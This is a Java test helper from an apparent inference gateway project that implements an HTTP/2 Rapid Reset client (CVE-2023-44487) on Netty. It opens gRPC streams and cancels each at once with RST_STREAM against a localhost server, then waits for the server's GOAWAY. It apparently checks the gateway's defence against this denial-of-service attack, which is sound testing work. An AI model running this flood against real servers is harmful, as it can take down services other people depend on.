package io.infergate.infer.gateway.testing;

import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.ByteBuf;
import io.netty.channel.Channel;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInitializer;
import io.netty.channel.EventLoopGroup;
import io.netty.channel.nio.NioEventLoopGroup;
import io.netty.channel.socket.nio.NioSocketChannel;
import io.netty.handler.codec.ByteToMessageDecoder;
import io.netty.handler.codec.http2.DefaultHttp2FrameReader;
import io.netty.handler.codec.http2.DefaultHttp2FrameWriter;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.Http2CodecUtil;
import io.netty.handler.codec.http2.Http2Error;
import io.netty.handler.codec.http2.Http2FrameAdapter;
import io.netty.handler.codec.http2.Http2Headers;
import io.netty.handler.codec.http2.Http2Settings;
import java.util.List;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;

/**
 * An HTTP/2 Rapid Reset client (CVE-2023-44487) written on Netty's frame writer and reader: it
 * opens a gRPC call with HEADERS and cancels it at once with RST_STREAM, as many times as asked,
 * without the bookkeeping a real client would do.
 */
public final class RapidResetClient implements AutoCloseable {
  private final EventLoopGroup group = new NioEventLoopGroup(1);
  private final DefaultHttp2FrameWriter writer = new DefaultHttp2FrameWriter();
  private final CompletableFuture<Long> goAway = new CompletableFuture<>();
  private final Channel channel;
  private final ChannelHandlerContext context;
  private int nextStream = 1;

  /** Connects to {@code 127.0.0.1:port} and sends the connection preface and SETTINGS. */
  public RapidResetClient(int port) throws InterruptedException {
    FrameDecoder decoder = new FrameDecoder();
    channel =
        new Bootstrap()
            .group(group)
            .channel(NioSocketChannel.class)
            .handler(
                new ChannelInitializer<NioSocketChannel>() {
                  @Override
                  protected void initChannel(NioSocketChannel ch) {
                    ch.pipeline().addLast(decoder);
                  }
                })
            .connect("127.0.0.1", port)
            .sync()
            .channel();
    context = channel.pipeline().context(decoder);
    channel
        .eventLoop()
        .execute(
            () -> {
              context.write(Http2CodecUtil.connectionPrefaceBuf());
              writer.writeSettings(context, new Http2Settings(), context.newPromise());
              context.flush();
            });
  }

  /** Sends {@code count} HEADERS of a gRPC call to {@code path}, each followed by RST_STREAM. */
  public void openAndReset(String path, int count) {
    channel
        .eventLoop()
        .execute(
            () -> {
              for (int i = 0; i < count; i++) {
                Http2Headers headers =
                    new DefaultHttp2Headers()
                        .method("POST")
                        .scheme("http")
                        .authority("localhost")
                        .path(path)
                        .add("content-type", "application/grpc")
                        .add("te", "trailers");
                writer.writeHeaders(context, nextStream, headers, 0, false, context.newPromise());
                writer.writeRstStream(
                    context, nextStream, Http2Error.CANCEL.code(), context.newPromise());
                nextStream += 2;
              }
              context.flush();
            });
  }

  /** The error code of the server's GOAWAY, once it sends one. */
  public CompletableFuture<Long> goAway() {
    return goAway;
  }

  /** Completes when the server has closed the connection. */
  public CompletableFuture<Void> closed() {
    CompletableFuture<Void> closed = new CompletableFuture<>();
    channel.closeFuture().addListener(f -> closed.complete(null));
    return closed;
  }

  @Override
  public void close() {
    channel.close();
    group.shutdownGracefully(0, 1, TimeUnit.SECONDS);
  }

  /** Reads the server's frames, acknowledging its SETTINGS; only GOAWAY matters here. */
  private final class FrameDecoder extends ByteToMessageDecoder {
    // Not validating: the server may answer a call before its reset arrives; only GOAWAY matters.
    private final DefaultHttp2FrameReader reader = new DefaultHttp2FrameReader(false);

    /** A frame the reader cannot parse ends the test's connection, and the wait for GOAWAY. */
    @Override
    public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
      goAway.completeExceptionally(cause);
      ctx.close();
    }

    @Override
    public void channelInactive(ChannelHandlerContext ctx) throws Exception {
      super.channelInactive(ctx); // decodes what was read last, the GOAWAY among it
      goAway.completeExceptionally(new IllegalStateException("closed without a GOAWAY"));
    }

    @Override
    protected void decode(ChannelHandlerContext ctx, ByteBuf in, List<Object> out)
        throws Exception {
      reader.readFrame(
          ctx,
          in,
          new Http2FrameAdapter() {
            @Override
            public void onGoAwayRead(
                ChannelHandlerContext ctx, int lastStreamId, long errorCode, ByteBuf debugData) {
              goAway.complete(errorCode);
            }

            @Override
            public void onSettingsRead(ChannelHandlerContext ctx, Http2Settings settings) {
              writer.writeSettingsAck(ctx, ctx.newPromise());
              ctx.flush();
            }

            @Override
            public int onDataRead(
                ChannelHandlerContext ctx,
                int streamId,
                ByteBuf data,
                int padding,
                boolean endOfStream) {
              return data.readableBytes() + padding;
            }
          });
    }
  }
}
